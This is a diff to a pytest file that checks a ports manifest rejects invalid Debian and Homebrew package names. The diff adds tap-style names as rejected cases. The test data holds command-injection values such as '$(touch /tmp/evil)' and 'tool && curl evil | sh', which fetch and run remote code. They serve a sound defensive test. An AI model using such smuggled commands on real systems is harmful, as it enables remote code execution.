@@ -42,6 +42,8 @@ def port_needing(tmp_path: Path, name: str, packages: str, key: str = "debian") 
         ("debian", "$(touch /tmp/evil)"),
         ("homebrew", "--HEAD"),
         ("homebrew", "tool && curl evil | sh"),
+        ("homebrew", "someone/tap/tool"),  # brew would tap (clone and trust) someone's repository first
+        ("homebrew", "homebrew/core/gcc"),  # a plain name finds the same formula
     ],
 )
 def test_a_package_that_is_no_package_name_is_the_ports_manifest_error_naming_the_key(tmp_path, key, text):
@@ -51,7 +53,7 @@ def test_a_package_that_is_no_package_name_is_the_ports_manifest_error_naming_th
 
 
 @pytest.mark.parametrize(
-    ("key", "text"), [("debian", "swi-prolog-nox"), ("debian", "g++ libc6-dev"), ("homebrew", "python@3.12"), ("homebrew", "homebrew/core/gcc")],
+    ("key", "text"), [("debian", "swi-prolog-nox"), ("debian", "g++ libc6-dev"), ("homebrew", "python@3.12"), ("homebrew", "gcc")],
 )
 def test_real_package_names_are_taken(tmp_path, key, text):
     port = load_port(port_needing(tmp_path, "fine", text, key) / MANIFEST)
